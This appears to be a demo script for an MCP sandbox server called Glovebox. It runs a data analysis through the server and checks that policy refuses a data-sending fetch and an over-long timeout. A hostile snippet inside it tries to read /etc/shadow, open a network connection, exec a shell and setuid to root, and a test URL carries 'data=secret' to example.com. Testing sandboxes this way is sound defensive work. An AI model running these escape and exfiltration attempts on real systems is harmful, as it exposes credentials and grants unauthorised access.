@@ -1,0 +1,280 @@
+"""``make demo``: a real MCP client, a real sandbox, a real data set, two refusals, and the record of all of it.
+
+Nothing here is special to the demo: every call goes through ``glovebox serve`` as any client's would. Exit code 0 only
+if everything came out as it should. What it leaves is in ./demo-output.
+"""
+
+import base64
+import json
+import os
+import shutil
+import sys
+import tempfile
+import textwrap
+import time
+from collections.abc import Mapping
+from pathlib import Path
+from subprocess import DEVNULL  # noqa: TID251 - a constant; anyio starts the programs
+from typing import Any
+
+import anyio
+import mcp_types as types
+from mcp import Client, StdioServerParameters
+from rich.console import Console
+from rich.text import Text
+
+HERE = Path(__file__).resolve().parent.parent
+GLOVEBOX = Path(sys.executable).with_name("glovebox")
+OUTPUT = HERE / "demo-output"
+STATE = OUTPUT / "state"
+STATE_OPTION = ("--state-dir", str(STATE))
+TOOLS = {"fetch_url", "list_workspace_files", "read_workspace_file", "run_python", "search_workspace"}
+SECCOMP_FILTER = 2
+"""The kernel's number for a filter, see proc_pid_status(5)."""
+INDENT = " " * 5
+PATIENCE = 60.0
+"""Seconds for one call; the slowest takes about three on a small machine."""
+
+ANALYSIS = """
+import pandas as pd, matplotlib.pyplot as plt
+
+orders = pd.read_csv("/workspace/sales.csv", parse_dates=["date"])
+sold = orders[orders.units > 0]
+sold = sold.assign(revenue=sold.units * sold.unit_price * (1 - sold.discount_percent / 100))
+by_month = sold.pivot_table(index=sold.date.dt.month, columns="product", values="revenue", aggfunc="sum").fillna(0)
+
+by_month.plot.bar(stacked=True, figsize=(9, 4), rot=0, xlabel="month", title="Revenue by month and product")
+plt.legend(loc="upper left", bbox_to_anchor=(1, 1))
+plt.tight_layout()
+by_month.to_csv("/output/by_month.csv")
+
+print(f"{len(orders)} orders, {(orders.units < 0).sum()} returned, {orders.region.isna().sum()} without a region")
+sold.groupby("product").revenue.agg(["count", "sum"]).sort_values("sum", ascending=False).round(0).astype(int)
+"""
+
+HOSTILE = """
+import os, socket
+
+def attempt(what, act):
+    try:
+        print(f"{what:30} {act()!r}  <- IT WORKED")
+    except Exception as refusal:
+        print(f"{what:30} {getattr(refusal, 'strerror', refusal)}")
+
+attempt("connect to the internet", lambda: socket.create_connection(("192.0.2.1", 443), 3))
+attempt("read /etc/shadow", lambda: open("/etc/shadow").read())
+attempt("list /home", lambda: os.listdir("/home"))
+attempt("overwrite /workspace/sales.csv", lambda: open("/workspace/sales.csv", "w"))
+attempt("start a shell", lambda: os.execv("/bin/sh", ["sh"]))
+attempt("become root", lambda: os.setuid(0))
+"""
+
+
+class Surprise(Exception):  # noqa: N818 - what it is called when it is shown
+    """Something did not come out as it should."""
+
+
+class Show:
+    """Numbered steps on the terminal, each with its time."""
+
+    def __init__(self) -> None:
+        self.console = Console(highlight=False, soft_wrap=True)
+        self._number = 0
+        self._since = time.perf_counter()
+
+    def step(self, title: str) -> None:
+        """Begin the next step."""
+        self._number += 1
+        self._since = time.perf_counter()
+        self.console.print(f"\n[bold cyan]{self._number}[/]  [bold]{title}[/]")
+
+    def done(self, words: str) -> None:
+        """End it, with what came of it and how long it took."""
+        milliseconds = (time.perf_counter() - self._since) * 1000
+        self.console.print(f"   [green]✓[/] {words} [dim]({milliseconds:,.0f} ms)[/]")
+
+    def quote(self, text: str, style: str = "dim") -> None:
+        """Show what a program said: untrusted, so without any markup."""
+        clean = "".join(sign for sign in text.rstrip() if sign.isprintable() or sign == "\n")
+        for line in clean.splitlines():
+            for part in textwrap.wrap(line, self.console.width - len(INDENT), drop_whitespace=False) or [""]:
+                self.console.print(Text(INDENT + part, style=style))
+
+
+def expect(condition: object, otherwise: str) -> None:
+    """Raise Surprise unless something is so."""
+    if not condition:
+        raise Surprise(otherwise)
+
+
+async def glovebox(*arguments: str, show: bool = False) -> str:
+    """Run a command of the installed program; returns what it printed. ``show`` lets it write to the terminal."""
+    out, err = (None, None) if show else (-1, -1)
+    done = await anyio.run_process([str(GLOVEBOX), *arguments], stdin=DEVNULL, stdout=out, stderr=err, check=False)
+    words = (done.stdout or b"").decode()
+    expect(done.returncode == 0, f"`glovebox {' '.join(arguments)}` ended with {done.returncode}. {words}")
+    return words
+
+
+async def call(client: Client, tool: str, **arguments: Any) -> tuple[types.CallToolResult, Mapping[str, Any]]:
+    """Call a tool; returns the result and its structured content."""
+    result = await client.call_tool(tool, arguments)
+    return result, result.structured_content or {}
+
+
+async def analyse(client: Client, show: Show) -> str:
+    """Look at the data, run an analysis, get its plot and its file back; returns the call's id."""
+    show.step("The model looks at the data: read_workspace_file")
+    result, _ = await call(client, "read_workspace_file", path="sales.csv", limit=4)
+    expect(not result.is_error, f"reading failed: {text_of(result)}")
+    show.done("the first lines of a file it may read")
+    show.quote("\n".join(text_of(result).splitlines()[:5]))
+
+    show.step("The model analyses it: run_python with pandas and matplotlib")
+    result, found = await call(client, "run_python", code=ANALYSIS)
+    expect(not result.is_error and found.get("ended") == "exited", f"the analysis failed: {text_of(result)}")
+    images = [block for block in result.content if isinstance(block, types.ImageContent)]
+    expect(len(images) == 1, f"one plot was expected, {len(images)} came back")
+    (OUTPUT / "plot.png").write_bytes(base64.b64decode(images[0].data))
+    artifact = found["artifacts"][0]
+    read = await client.read_resource(artifact["uri"])
+    content = read.contents[0]
+    table = base64.b64decode(content.blob) if isinstance(content, types.BlobResourceContents) else content.text.encode()
+    expect(len(table) == artifact["bytes"], "the file is not what was announced")
+    (OUTPUT / artifact["name"]).write_bytes(table)
+    show.done("a table, a plot and a file came back")
+    show.quote(f"{found['stdout']['text']}{found['value']}", style="")
+    show.console.print("     [green]→ demo-output/plot.png[/], [green]demo-output/by_month.csv[/]")
+    return str(found["call_id"])
+
+
+async def refuse(client: Client, show: Show) -> None:
+    """Two calls that policy refuses, with its reasons."""
+    for title, tool, arguments, rule in (
+        (
+            "tries to send data away: fetch_url",
+            "fetch_url",
+            {"url": "https://example.com/?data=secret"},
+            "network.allow",
+        ),
+        (
+            "asks for more time than it may have: run_python",
+            "run_python",
+            {"code": "1", "timeout_seconds": 300.0},
+            "limits.wall_seconds",
+        ),
+    ):
+        show.step(f"The model {title}")
+        result, found = await call(client, tool, **arguments)
+        refused = found.get("refused") or {}
+        expect(result.is_error and refused, f"this should have been refused: {text_of(result)}")
+        expect(refused["rule"] == rule, f"refused by {refused['rule']}, not by {rule}")
+        show.done(f"[red]refused[/] by the rule [bold]{rule}[/]; nothing was started")
+        show.quote(refused["reason"], style="yellow")
+        show.quote(refused["hint"], style="dim")
+
+
+async def attack(client: Client, show: Show) -> None:
+    """A program that policy lets run and that finds nothing to harm."""
+    show.step("A hostile program is let in: run_python")
+    result, found = await call(client, "run_python", code=HOSTILE)
+    printed = found.get("stdout", {}).get("text", "")
+    all_tried = len(printed.splitlines()) == HOSTILE.count("\nattempt(")
+    expect(all_tried and "IT WORKED" not in printed, f"the sandbox let something through: {text_of(result)}")
+    show.done("it ran, and every attempt failed")
+    show.quote(printed, style="yellow")
+
+
+async def prove(call_id: str, show: Show) -> None:
+    """What was measured inside the sandbox, and that the record of everything is whole."""
+    show.step("What held the analysis? Measured inside its sandbox before it ran: glovebox audit show")
+    records = [
+        json.loads(line) for line in (await glovebox("audit", "show", call_id, "--json", *STATE_OPTION)).splitlines()
+    ]
+    started = next(record["data"] for record in records if record["kind"] == "sandbox.started")
+    expect(started["verified"], "the isolation was not verified")
+    show.done(f"{started['driver']}, level [bold]{started['level']}[/]: as planned, or it would not have run")
+    show.quote(isolation(started["measured"]))
+
+    show.step("Was the record changed since? glovebox audit verify")
+    verdict = json.loads(await glovebox("audit", "verify", "--json", *STATE_OPTION))
+    expect(verdict["ok"], f"the audit log is not whole: {verdict['problems']}")
+    show.done(f"{verdict['records']} records, chained by hash and whole; the last is {verdict['head']['hash'][:16]}…")
+
+
+def isolation(measured: Mapping[str, Any]) -> str:
+    """The measured facts a person asks about first."""
+    fixed = [mount["target"] for mount in measured["mounts"] if not mount["writable"] and mount["target"] != "/dev"]
+    scratch = [mount["target"] for mount in measured["mounts"] if mount["type"] == "tmpfs" and mount["writable"]]
+    rows = {
+        "user": f"{measured['uid']}, capabilities: {measured['capabilities'] or 'none'}, "
+        f"can gain privileges: {'no' if measured['no_new_privs'] else 'yes'}",
+        "system calls": "filtered" if measured["seccomp"] == SECCOMP_FILTER else f"mode {measured['seccomp']}",
+        "own namespaces": ", ".join(sorted(measured["namespaces"])),
+        "network": f"{', '.join(measured['interfaces'])} and nothing else",
+        "read-only": ", ".join(fixed),
+        "in memory, gone now": ", ".join(scratch),
+    }
+    return "\n".join(f"{name:20} {value}" for name, value in rows.items())
+
+
+def text_of(result: types.CallToolResult) -> str:
+    """All text of a result."""
+    return "\n".join(block.text for block in result.content if isinstance(block, types.TextContent))
+
+
+async def demo(show: Show) -> None:
+    """The whole of it."""
+    began = time.perf_counter()
+    shutil.rmtree(OUTPUT, ignore_errors=True)
+    STATE.mkdir(mode=0o700, parents=True)
+    show.console.print("[bold]Glovebox[/]: an MCP client does some work with it. Nothing here needs a network.")
+
+    show.step("The sandboxes' Python: glovebox setup (about half a minute the first time)")
+    await glovebox("setup", show=True)
+    show.done("ready")
+
+    with tempfile.TemporaryDirectory(prefix="glovebox-demo-") as directory:
+        workspace = Path(directory)
+        workspace.chmod(0o755)  # as root, sandboxes run as another user
+        shutil.copyfile(HERE / "examples" / "sales.csv", workspace / "sales.csv")
+        (workspace / "sales.csv").chmod(0o644)
+        options = ["serve", "--workspace", str(workspace), *STATE_OPTION]
+        environment = {name: value for name, value in os.environ.items() if name.startswith(("GLOVEBOX_", "XDG_"))}
+        server = StdioServerParameters(command=str(GLOVEBOX), args=options, env=environment)
+        show.step("A client connects: glovebox serve, MCP over stdio")
+        async with Client(server, read_timeout_seconds=PATIENCE) as client:
+            tools = {tool.name for tool in (await client.list_tools()).tools}
+            expect(tools == TOOLS, f"other tools than expected: {sorted(tools)}")
+            show.done(f"MCP {client.protocol_version}; five tools and no shell")
+            show.quote(", ".join(sorted(tools)))
+            analysed = await analyse(client, show)
+            await refuse(client, show)
+            await attack(client, show)
+    await prove(analysed, show)
+    show.console.print(
+        f"\n[bold green]✓ All as it should be[/], in {time.perf_counter() - began:.1f} s. Look at "
+        "[green]demo-output/plot.png[/], or at the record: "
+        f"[cyan].venv/bin/glovebox audit tail --state-dir demo-output/state[/]"
+    )
+
+
+def main() -> int:
+    """Run it; 1 with a sentence if anything was not as it should be."""
+    show = Show()
+    try:
+        anyio.run(demo, show)
+    except BaseExceptionGroup as group:
+        problem: BaseException = group
+        while isinstance(problem, BaseExceptionGroup):
+            problem = problem.exceptions[0]
+        show.console.print(f"\n[bold red]✗[/] {type(problem).__name__}:", Text(str(problem)))
+        return 1
+    except Surprise as problem:
+        show.console.print("\n[bold red]✗[/]", Text(str(problem)))
+        return 1
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
